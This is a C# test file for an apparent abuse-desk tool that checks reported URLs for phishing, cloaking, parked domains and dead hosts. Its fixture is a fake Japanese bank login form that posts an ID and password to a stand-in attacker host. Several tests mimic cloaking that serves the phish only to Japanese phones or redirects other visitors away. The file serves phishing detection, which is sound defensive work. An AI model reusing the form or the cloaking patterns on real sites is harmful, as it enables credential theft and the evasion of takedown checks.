using System.Text;
using AbuseDesk.Checks;
using Microsoft.AspNetCore.Http;

namespace AbuseDesk.Tests.Checks;

public sealed class UrlCheckTests
{
    private const string Url = "http://bank-login.example/login/";
    private const string Phish =
        "<title>みなと銀行 ログイン</title><form action='https://evil.example/take.php' method=POST><input name=id><input type=password name=pw></form>";

    [Fact]
    public async Task A_page_that_all_see_is_live()
    {
        var check = await Seen(_ => (200, Phish));

        Assert.Equal((UrlVerdict.Live, UrlReason.SeenByAll), (check.Verdict, check.Reason));
        Assert.Equal(["desktop", "mobile", "desktop_ja", "mobile_ja"], check.Observations.Select(o => o.Visitor));
        var form = Assert.Single(check.Observations[0].Body!.Page!.Forms);
        Assert.Equal(new PageForm("https://evil.example/take.php", "post", true), form);
    }

    [Theory]
    [InlineData(404)]
    [InlineData(410)]
    public async Task A_page_that_nobody_sees_is_gone(int status) =>
        Assert.Equal((UrlVerdict.Gone, UrlReason.NotFound), Verdict(await Seen(_ => (status, "<h1>Not Found</h1>"))));

    [Fact]
    public async Task A_page_for_phones_only_is_cloaked()
    {
        var check = await Seen(c => IsPhone(c) ? (200, Phish) : (404, "Not Found"));

        Assert.Equal((UrlVerdict.Cloaked, UrlReason.AnswerDiffers), Verdict(check));
        Assert.Equal(
            [UrlOutcome.Gone, UrlOutcome.Live, UrlOutcome.Gone, UrlOutcome.Live],
            check.Observations.Select(o => o.Outcome)
        );
    }

    [Fact]
    public async Task A_page_for_Japanese_phones_only_is_cloaked() =>
        Assert.Equal(
            (UrlVerdict.Cloaked, UrlReason.AnswerDiffers),
            Verdict(await Seen(c => IsPhone(c) && IsJapanese(c) ? (200, Phish) : (403, "Forbidden")))
        );

    [Fact]
    public async Task A_harmless_page_for_the_others_is_cloaking_too() =>
        Assert.Equal(
            (UrlVerdict.Cloaked, UrlReason.FormDiffers),
            Verdict(await Seen(c => IsJapanese(c) ? (200, Phish) : (200, "<h1>Under construction</h1>")))
        );

    [Fact]
    public async Task Leading_the_others_away_is_cloaking_too()
    {
        await using var internet = await SmallInternet.Serving(c =>
        {
            if (IsPhone(c) || c.Request.Host.Host is "www.search.example")
            {
                return SmallInternet.Html(c, "page");
            }

            c.Response.Redirect("http://www.search.example/");
            return Task.CompletedTask;
        });

        Assert.Equal((UrlVerdict.Cloaked, UrlReason.HostDiffers), Verdict(await internet.Check(Url)));
    }

    [Fact]
    public async Task Leading_the_others_to_this_very_machine_is_cloaking_too()
    {
        await using var internet = await SmallInternet.Serving(c =>
        {
            if (IsPhone(c))
            {
                return SmallInternet.Html(c, Phish);
            }

            c.Response.Redirect("http://127.0.0.1/");
            return Task.CompletedTask;
        });

        Assert.Equal((UrlVerdict.Cloaked, UrlReason.AnswerDiffers), Verdict(await internet.Check(Url)));
        internet.AssertNobodyWasReached();
    }

    [Fact]
    public async Task A_site_of_its_own_for_phones_is_no_cloaking()
    {
        await using var internet = await SmallInternet.Serving(c =>
        {
            if (!IsPhone(c) || c.Request.Host.Host.StartsWith("m.", StringComparison.Ordinal))
            {
                return SmallInternet.Html(c, Phish);
            }

            c.Response.Redirect("http://m.shop.example/");
            return Task.CompletedTask;
        });

        Assert.Equal((UrlVerdict.Live, UrlReason.SeenByAll), Verdict(await internet.Check("http://www.shop.example/")));
    }

    [Fact]
    public async Task A_fault_for_some_leaves_the_page_live_for_the_others() =>
        Assert.Equal(
            (UrlVerdict.Live, UrlReason.SeenBySome),
            Verdict(await Seen(c => IsPhone(c) ? (200, "page") : (503, "busy")))
        );

    [Theory]
    [InlineData(500, UrlReason.Failing)]
    [InlineData(403, UrlReason.Denied)]
    public async Task An_error_for_all_is_unclear(int status, object reason) =>
        Assert.Equal((UrlVerdict.Unclear, (UrlReason)reason), Verdict(await Seen(_ => (status, "error"))));

    [Fact]
    public async Task A_login_under_a_404_is_not_called_gone() =>
        Assert.Equal((UrlVerdict.Unclear, UrlReason.FormOnError), Verdict(await Seen(_ => (404, Phish))));

    [Fact]
    public async Task A_page_that_only_moves_on_is_unclear_and_says_where_to()
    {
        var check = await Seen(_ =>
            (200, "<meta http-equiv=Refresh content='0; URL=/next'><script>location.href = '/n'</script>")
        );

        Assert.Equal((UrlVerdict.Unclear, UrlReason.MovesOn), Verdict(check));
        var page = check.Observations[0].Body!.Page!;
        Assert.Equal(("http://bank-login.example/next", true), (page.MetaRefresh, page.ScriptMovesOn));
        Assert.Single(check.Observations[0].Hops);
    }

    [Theory]
    [InlineData("<title>Account Suspended</title>", UrlReason.Suspended)]
    [InlineData("<html data-adblockkey='abc'><body>buy this domain", UrlReason.Parked)]
    public async Task A_page_of_the_host_or_of_a_parking_company_is_gone(string html, object reason) =>
        Assert.Equal((UrlVerdict.Gone, (UrlReason)reason), Verdict(await Seen(_ => (200, html))));

    [Fact]
    public async Task A_news_page_about_suspended_accounts_is_live() =>
        Assert.Equal(
            UrlVerdict.Live,
            (await Seen(_ => (200, "<title>Account suspended? What to do now</title>"))).Verdict
        );

    [Fact]
    public async Task A_name_that_is_no_more_is_gone()
    {
        await using var internet = await SmallInternet.Serving(_ => Task.CompletedTask);

        Assert.Equal(
            (UrlVerdict.Gone, UrlReason.NameGone),
            Verdict(await internet.Check("http://www.nowhere.example/"))
        );
    }

    [Theory]
    [InlineData("shift_jis", "text/html; charset=Shift_JIS", "")]
    [InlineData("shift_jis", "text/html", "<meta charset=\"shift_jis\">")]
    [InlineData("shift_jis", "text/html", "")]
    [InlineData("euc-jp", "text/html; charset=EUC-JP", "")]
    [InlineData("euc-jp", "text/html", "<meta http-equiv='Content-Type' content='text/html; charset=EUC-JP'>")]
    [InlineData("iso-2022-jp", "text/html; charset=iso-2022-jp", "")]
    [InlineData("utf-8", "text/html", "")]
    [InlineData("utf-16", "text/html", "")]
    public async Task A_Japanese_title_is_read_in_every_charset(string charset, string type, string meta)
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var encoding = Encoding.GetEncoding(charset);
        byte[] html =
        [
            .. encoding.GetPreamble(),
            .. encoding.GetBytes(meta + "<title>みなと銀行のログイン</title>ここです"),
        ];
        await using var internet = await SmallInternet.Serving(async c =>
        {
            c.Response.ContentType = type;
            await c.Response.Body.WriteAsync(html);
        });

        var page = (await internet.Look(Url)).Body!.Page!;

        Assert.Equal(("みなと銀行のログイン", "ここです"), (page.Title, page.Text));
    }

    private static async Task<UrlCheck> Seen(Func<HttpContext, (int Status, string Html)> page)
    {
        await using var internet = await SmallInternet.Serving(c =>
        {
            var (status, html) = page(c);
            c.Response.StatusCode = status;
            return SmallInternet.Html(c, html);
        });
        return await internet.Check(Url);
    }

    private static (UrlVerdict, UrlReason) Verdict(UrlCheck check) => (check.Verdict, check.Reason);

    private static bool IsPhone(HttpContext context) =>
        context.Request.Headers.UserAgent.ToString().Contains("iPhone", StringComparison.Ordinal);

    private static bool IsJapanese(HttpContext context) =>
        context.Request.Headers.AcceptLanguage.ToString().StartsWith("ja", StringComparison.Ordinal);
}
